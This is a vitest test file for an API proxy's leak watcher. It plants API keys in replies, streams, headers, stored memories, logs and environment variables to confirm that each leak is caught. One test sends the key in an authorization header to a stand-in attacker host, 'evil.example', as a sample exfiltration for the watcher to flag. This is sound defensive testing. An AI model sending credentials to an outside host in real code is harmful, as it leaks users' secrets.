import { expect, it } from 'vitest'
import { memoryStore } from '../../src/memory/stores/memory.ts'
import { createMemories } from '../../src/memory/records.ts'
import { STORE_BOUNDS } from '../../src/config/defaults.ts'
import { createPools } from '../../src/upstream/pools.ts'
import { authenticator } from '../../src/upstream/credentials.ts'
import { createLoad } from '../../src/http/admission/load.ts'
import type { AppContext } from '../../src/http/app-context.ts'
import { fakes } from '../exchange/fakes.ts'
import {
  jsonReply,
  KEY,
  plainStream,
  proxyOf,
  settingsWith,
  sse,
  sseReply,
} from '../exchange/proxy.ts'
import { look, lookAtProcess, takeLeaks, watched } from './watch.ts'

/** What watches the whole suite notices each leak that is planted here. */

const CALLER_KEY = 'caller-key-of-the-canaries-1'
const body = { model: 'plain-1', text: 'hi' }

it('notices a key in a reply, in a stream and across its pieces', async () => {
  const echo = proxyOf(() => jsonReply({ model: 'm', text: KEY }))
  await (await echo.fetch('/v1/plain', { body })).text()
  expect(takeLeaks()).toHaveLength(1)

  const [start = '', ...rest] = plainStream()
  const event = sse({ t: 'text', text: KEY })
  const pieces = [start, event.slice(0, 30), event.slice(30), ...rest]
  const streamed = proxyOf(() => sseReply(pieces))
  await (await streamed.fetch('/v1/plain', { body: { ...body, stream: true } })).text()
  expect(takeLeaks().length).toBeGreaterThan(0)
})

it('notices a key in a header of a reply', async () => {
  // What was sent to the upstream is hidden in headers. A caller's own key was not, and cannot come back.
  const planted = { 'x-ratelimit-owner': CALLER_KEY }
  const callers = { kind: 'keys', keys: [CALLER_KEY] } as const
  const proxy = proxyOf(() => jsonReply({ model: 'm', text: 'x' }, 200, planted), { callers })
  await proxy.fetch('/v1/plain', { body, headers: { 'x-api-key': CALLER_KEY } })
  expect(takeLeaks()).toHaveLength(1)
})

it('notices a key that goes where it does not belong', () => {
  const sent: string[] = []
  const site = siteWith(sent)
  const { send } = watched(site).ports
  const request = { method: 'POST', signal: new AbortController().signal, connectMs: 1 }
  const bytes = new TextEncoder().encode(KEY)
  void send({ ...request, url: 'https://plain.example/', headers: { authorization: KEY } })
  expect(takeLeaks()).toEqual([])
  void send({ ...request, url: 'https://evil.example/', headers: { authorization: KEY } })
  void send({ ...request, url: 'https://plain.example/', headers: { a: KEY, b: KEY } })
  void send({ ...request, url: 'https://plain.example/', headers: {}, body: bytes })
  void send({ ...request, url: 'https://plain.example/', headers: { cookie: CALLER_KEY } })
  expect(takeLeaks()).toHaveLength(4)
  expect(sent).toHaveLength(5)
})

it('notices a key in the store and in what is printed', async () => {
  const site = watched(siteWith([]))
  await site.memories?.store.put({ key: 'o/1', owner: 'o', value: CALLER_KEY, ttlMs: 1000 })
  look(`Error: ${KEY}`, 'console.error')
  lookAtProcess(`dragoman: ${KEY}`, { DRAGOMAN_CONFIG: `{"a":{"key":"${KEY}"}}` })
  lookAtProcess(`dragoman: ${CALLER_KEY}`, { DRAGOMAN_CALLER_KEYS: `x,${CALLER_KEY}` })
  expect(takeLeaks()).toHaveLength(4)
})

function siteWith(sent: string[]): AppContext {
  const settings = settingsWith({ callers: { kind: 'keys', keys: [CALLER_KEY] } })
  return {
    settings,
    ports: {
      send: async ({ url }) => {
        sent.push(url)
        return jsonReply({})
      },
      now: () => 0,
      randomId: () => '0'.repeat(32),
      log: () => undefined,
    },
    dialects: fakes,
    admit: authenticator(settings.callers),
    load: createLoad(settings.limits),
    pools: createPools({ now: () => 0, randomId: () => '0'.repeat(32) }),
    memories: createMemories(settings, memoryStore(STORE_BOUNDS)),
  }
}
